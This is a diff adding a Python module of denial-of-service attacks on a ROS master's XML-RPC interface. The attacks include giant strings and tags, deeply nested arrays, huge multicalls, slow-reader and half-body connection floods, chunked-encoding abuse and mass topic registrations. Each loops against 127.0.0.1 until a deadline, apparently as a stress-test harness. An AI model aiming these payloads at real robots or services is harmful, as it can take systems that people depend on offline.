@@ -1,0 +1,429 @@
+"""Attacks on a master, each a function that goes on until its target says that it is over."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import threading
+import time
+from collections.abc import Callable
+from typing import Any
+from xmlrpc.client import dumps
+
+MIB = 1024 * 1024
+HUGE = 60 * MIB
+
+
+# --- requests
+
+
+def post(body: bytes) -> bytes:
+    """Return an HTTP request."""
+    return b"POST / HTTP/1.1\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+
+
+def called(method: str, *args: Any) -> bytes:
+    """Return a whole request."""
+    return post(dumps(args, method).encode())
+
+
+def valued(value: bytes, key: str = "/attack") -> bytes:
+    """Return a setParam of a value that is XML already."""
+    return post(
+        b"<?xml version='1.0'?><methodCall><methodName>setParam</methodName><params><param><value>/bad</value>"
+        b"</param><param><value>%s</value></param><param><value>"
+        % key.encode()
+        + value
+        + b"</value></param></params></methodCall>"
+    )
+
+
+def array(item: bytes, count: int) -> bytes:
+    """Return an array of the same item."""
+    return b"<array><data>" + item * count + b"</data></array>"
+
+
+def multicall(method: str, params: list[Any], count: int) -> bytes:
+    """Return a multicall of the same call."""
+    call = dumps(([{"methodName": method, "params": params}],), "system.multicall").encode()
+    start, end = call.index(b"<data>") + 6, call.rindex(b"</data>")
+    return post(call[:start] + call[start:end] * count + call[end:])
+
+
+# --- attacks
+
+
+class Target:
+    """The master that is attacked, and when to stop."""
+
+    def __init__(self, port: int, end: float) -> None:
+        self.port = port
+        self.end = end
+
+    @property
+    def is_over(self) -> bool:
+        """Return whether the attack has lasted long enough."""
+        return time.monotonic() >= self.end
+
+    def connect(self) -> socket.socket:
+        """Return a new connection."""
+        sock = socket.create_connection(("127.0.0.1", self.port), 20)
+        sock.settimeout(20)
+        return sock
+
+    def exchange(self, request: bytes) -> None:
+        """Send a request and read its answer, on a new connection."""
+        with contextlib.suppress(OSError), self.connect() as sock:
+            sender = threading.Thread(target=_send, args=(sock, request))
+            sender.start()
+            with contextlib.suppress(OSError):
+                _read_answer(sock, self)
+            with contextlib.suppress(OSError):
+                sock.shutdown(socket.SHUT_RDWR)
+            sender.join()
+
+    def repeat(self, request: bytes, pause: float = 0.0) -> None:
+        """Exchange the same request again and again."""
+        while not self.is_over:
+            self.exchange(request)
+            time.sleep(pause)
+
+    def hold(self, request: bytes, count: int) -> None:
+        """Send it on many connections, and read nothing."""
+        while not self.is_over:
+            with contextlib.ExitStack() as stack:
+                for _ in range(count):
+                    if self.is_over:
+                        return
+                    with contextlib.suppress(OSError):
+                        sock = stack.enter_context(self.connect())
+                        sock.setblocking(False)
+                        sock.send(request)
+                self.wait(5.0)
+
+    def wait(self, seconds: float) -> None:
+        """Wait, at most until the end."""
+        time.sleep(max(0.0, min(seconds, self.end - time.monotonic())))
+
+
+def _send(sock: socket.socket, data: bytes) -> None:
+    with contextlib.suppress(OSError):
+        sock.sendall(data)
+
+
+def _read_answer(sock: socket.socket, target: Target) -> None:
+    data = b""
+    while b"\r\n\r\n" not in data:
+        more = sock.recv(65536)
+        if not more:
+            return
+        data += more
+    head, _, body = data.partition(b"\r\n\r\n")
+    left = int(head.lower().partition(b"content-length:")[2].split(b"\r\n")[0]) - len(body)
+    buffer = bytearray(MIB)
+    while left > 0 and not target.is_over:
+        count = sock.recv_into(buffer)
+        if not count:
+            return
+        left -= count
+
+
+def huge_array_multicall(target: Target) -> None:
+    """200 getParam of an array of 300,000 numbers in one multicall of 40 kB."""
+    target.exchange(valued(array(b"<value><int>1</int></value>", 300_000), "/attack/array"))
+    target.repeat(multicall("getParam", ["/bad", "/attack/array"], 200))
+
+
+def huge_string(target: Target) -> None:
+    """setParam of a string of 60 MiB."""
+    target.repeat(valued(b"x" * HUGE, "/attack/string"))
+
+
+def wide_characters(target: Target) -> None:
+    """setParam of strings of 15 million characters of which one, the first or the last, needs four bytes."""
+    wide, others = "\U0001f600".encode(), b"x" * (HUGE // 4)
+    while not target.is_over:
+        target.exchange(valued(wide + others, "/attack/wide"))
+        target.exchange(valued(others + wide, "/attack/wide"))
+
+
+def huge_tag(target: Target) -> None:
+    """Send a tag name of 60 MiB."""
+    target.repeat(post(b"<methodCall><" + b"x" * HUGE))
+
+
+def huge_comment(target: Target) -> None:
+    """Send an XML comment of 60 MiB, full of what ends a tag."""
+    target.repeat(post(b"<methodCall><!-- " + b"> " * (HUGE // 2)))
+
+
+def many_calls(target: Target) -> None:
+    """Send a multicall of 60,000 calls."""
+    target.repeat(multicall("getPid", ["/bad"], 60_000))
+
+
+def many_sets(target: Target) -> None:
+    """Send a multicall of 20,000 setParam."""
+    calls = [
+        {"methodName": "setParam", "params": ["/bad", f"/attack/many/p{number}", number]}
+        for number in range(20_000)
+    ]
+    target.repeat(called("system.multicall", calls))
+
+
+def many_elements(target: Target) -> None:
+    """setParam of an array of 900,000 elements."""
+    target.repeat(valued(array(b"<value>a</value>", 900_000), "/attack/elements"))
+
+
+def many_structs(target: Target) -> None:
+    """setParam of an array of 300,000 structs, and getParam of it."""
+    item = b"<value><struct><member><name>a</name><value>b</value></member></struct></value>"
+    target.exchange(valued(array(item, 150_000), "/attack/structs"))
+    while not target.is_over:
+        target.exchange(valued(array(item, 150_000), "/attack/structs"))
+        target.exchange(called("getParam", "/bad", "/attack/structs"))
+
+
+def huge_base64(target: Target) -> None:
+    """setParam of 60 MiB of base64."""
+    target.repeat(valued(b"<base64>" + b"QUJD" * (HUGE // 4) + b"</base64>", "/attack/base64"))
+
+
+def huge_chunk(target: Target) -> None:
+    """Send a body of 60 MiB in one chunk, and one with the next request right behind it."""
+    body = valued(b"x" * HUGE, "/attack/string").partition(b"\r\n\r\n")[2]
+    chunked = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (
+        len(body),
+        body,
+    )
+    while not target.is_over:
+        target.exchange(chunked)
+        target.exchange(post(body) + called("getPid", "/bad"))
+
+
+def huge_number(target: Target) -> None:
+    """Send an integer of a million digits, and a double of ten million."""
+    while not target.is_over:
+        target.exchange(valued(b"<int>" + b"9" * 1_000_000 + b"</int>"))
+        target.exchange(valued(b"<double>" + b"9" * 10_000_000 + b"</double>"))
+
+
+def deep(target: Target) -> None:
+    """Send a million arrays inside each other."""
+    target.repeat(valued(b"<array><data><value>" * 1_000_000))
+
+
+def whole_tree(target: Target) -> None:
+    """getParam of / by twenty clients, of a tree of 200,000 parameters, which one goes on changing."""
+    target.exchange(valued(array(b"<value><int>1</int></value>", 100_000), "/attack/array"))
+    many = {f"p{number}": number for number in range(100_000)}
+    target.exchange(called("setParam", "/bad", "/attack/tree", many))
+    _side_by_side(
+        [lambda: target.repeat(called("getParam", "/bad", "/"))] * 20
+        + [lambda: target.repeat(called("setParam", "/bad", "/attack/tree/p1", "x"), 0.01)]
+    )
+
+
+def names_of_parameters(target: Target) -> None:
+    """getParamNames of 100,000 parameters by ten clients."""
+    many = {f"p{number}": number for number in range(100_000)}
+    target.exchange(called("setParam", "/bad", "/attack/tree", many))
+    _side_by_side([lambda: target.repeat(called("getParamNames", "/bad"))] * 10)
+
+
+def slow_readers(target: Target) -> None:
+    """200 clients that ask for 8 MiB each and read nothing."""
+    target.exchange(valued(b"x" * (8 * MIB), "/attack/large"))
+    target.hold(called("getParam", "/bad", "/attack/large"), 200)
+
+
+def pipelines(target: Target) -> None:
+    """300 clients that send a thousand calls at once each and read nothing."""
+    target.hold(called("getParamNames", "/bad") * 1000, 300)
+
+
+def half_bodies(target: Target) -> None:
+    """1000 clients that send 900 kB of a body of 60 MiB each."""
+    request = b"POST / HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % HUGE + b"x" * 900_000
+    while not target.is_over:
+        with contextlib.ExitStack() as stack:
+            for _ in range(1000):
+                if target.is_over:
+                    return
+                with contextlib.suppress(OSError):
+                    sock = stack.enter_context(target.connect())
+                    sock.settimeout(1.0)
+                    sock.sendall(request)
+            target.wait(3.0)
+
+
+def endless_head(target: Target) -> None:
+    """1000 clients that send header lines without end."""
+    target.hold(b"POST / HTTP/1.1\r\n" + b"X-Header: nothing\r\n" * 3000, 1000)
+
+
+def small_chunks(target: Target) -> None:
+    """Send a body of ten million chunks of one byte."""
+    head = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
+    target.repeat(head + b"1\r\nx\r\n" * 10_000_000)
+
+
+def silent_connections(target: Target) -> None:
+    """5,000 connections that say nothing."""
+    target.hold(b"", 5000)
+
+
+def system_states(target: Target) -> None:
+    """getSystemState of a graph of 20,000 topics, by ten clients, while another one changes it."""
+    calls = [
+        {
+            "methodName": "registerPublisher",
+            "params": [f"/bad{n % 20}", f"/attack/t{n}", "a/B", "http://127.0.0.1:9/"],
+        }
+        for n in range(20_000)
+    ]
+    for at in range(0, len(calls), 5000):
+        target.exchange(called("system.multicall", calls[at : at + 5000]))
+    change = called("registerPublisher", "/bad", "/attack/changing", "a/B", "http://127.0.0.1:9/")
+    _side_by_side(
+        [lambda: target.repeat(called("getSystemState", "/bad"))] * 10 + [lambda: target.repeat(change, 0.01)]
+    )
+
+
+def all_topics(target: Target) -> None:
+    """getTopicTypes and getPublishedTopics by ten clients, of as many topics as there may be."""
+    for first in range(0, 200_000, 5_000):
+        calls = [
+            {
+                "methodName": "registerPublisher",
+                "params": [f"/bad{first}", f"/attack/all/{number}", "a/B", f"http://127.0.0.1:9/{first}"],
+            }
+            for number in range(first, first + 5_000)
+        ]
+        if not target.is_over:
+            target.exchange(called("system.multicall", calls))
+    _side_by_side(
+        [lambda: target.repeat(called("getTopicTypes", "/bad"))] * 5
+        + [lambda: target.repeat(called("getPublishedTopics", "/bad", ""))] * 5
+    )
+
+
+def new_addresses(target: Target) -> None:
+    """Register a node of 20,000 topics again and again from another address."""
+    calls = [
+        {"methodName": "registerPublisher", "params": ["/bad", f"/attack/n{n}", "a/B", "http://127.0.0.1:9/"]}
+        for n in range(20_000)
+    ]
+    number = 0
+    while not target.is_over:
+        target.exchange(called("system.multicall", calls))
+        number += 1
+        target.exchange(
+            called("registerPublisher", "/bad", "/attack/n", "a/B", f"http://127.0.0.1:9/{number}")
+        )
+
+
+def topic_subscribers(target: Target) -> None:
+    """Register 20,000 subscribers at a dead address, and a publisher that comes and goes."""
+    calls = [
+        {
+            "methodName": "registerSubscriber",
+            "params": [f"/bad{n}", "/attack/fan", "a/B", f"http://127.0.0.1:9/{n}"],
+        }
+        for n in range(20_000)
+    ]
+    target.exchange(called("system.multicall", calls))
+    args = ("/bad", "/attack/fan", "a/B", "http://127.0.0.1:9/")
+    while not target.is_over:
+        target.exchange(called("registerPublisher", *args))
+        target.exchange(called("unregisterPublisher", args[0], args[1], args[3]))
+
+
+def parameter_subscribers(target: Target) -> None:
+    """5,000 subscribers of a parameter that never answer, and large values for them."""
+    with socket.create_server(("127.0.0.1", 0), backlog=1) as dead:
+        port = dead.getsockname()[1]
+        calls = [
+            {
+                "methodName": "subscribeParam",
+                "params": [f"/bad{n}", f"http://127.0.0.1:{port}/{n}", "/attack/watched"],
+            }
+            for n in range(5_000)
+        ]
+        target.exchange(called("system.multicall", calls))
+        while not target.is_over:
+            for number in range(5):
+                target.exchange(valued(b"x" * (4 * MIB), f"/attack/watched/{number}"))
+
+
+def long_names(target: Target) -> None:
+    """Registrations with names of 10 MiB."""
+    number = 0
+    while not target.is_over:
+        number += 1
+        name = f"/{number}" + "x" * (10 * MIB)
+        target.exchange(called("registerPublisher", name, name, "a/B", "http://127.0.0.1:9/"))
+        target.exchange(called("getParam", "/bad", name))
+        target.exchange(called(name, "/bad"))
+
+
+def many_registrations(target: Target) -> None:
+    """Registrations of ever new nodes and topics, 5,000 in each multicall."""
+    number = 0
+    while not target.is_over:
+        calls = []
+        for _ in range(5_000):
+            number += 1
+            args = [f"/bad{number}", f"/attack/ever/{number}", "a/B", "http://127.0.0.1:9/"]
+            calls.append({"methodName": "registerPublisher", "params": args})
+        target.exchange(called("system.multicall", calls))
+
+
+def many_values(target: Target) -> None:
+    """setParam of ever new strings of 8 MiB."""
+    number = 0
+    while not target.is_over:
+        number += 1
+        target.exchange(valued(b"x" * (8 * MIB), f"/attack/ever/{number}"))
+
+
+ATTACKS: tuple[Callable[[Target], None], ...] = (
+    huge_array_multicall,
+    huge_string,
+    wide_characters,
+    huge_tag,
+    huge_comment,
+    many_calls,
+    many_sets,
+    many_elements,
+    many_structs,
+    huge_base64,
+    huge_chunk,
+    huge_number,
+    deep,
+    whole_tree,
+    names_of_parameters,
+    slow_readers,
+    pipelines,
+    half_bodies,
+    endless_head,
+    small_chunks,
+    silent_connections,
+    system_states,
+    all_topics,
+    new_addresses,
+    topic_subscribers,
+    parameter_subscribers,
+    long_names,
+    many_registrations,
+    many_values,
+)
+
+
+def _side_by_side(functions: list[Callable[[], None]]) -> None:
+    threads = [threading.Thread(target=function) for function in functions]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
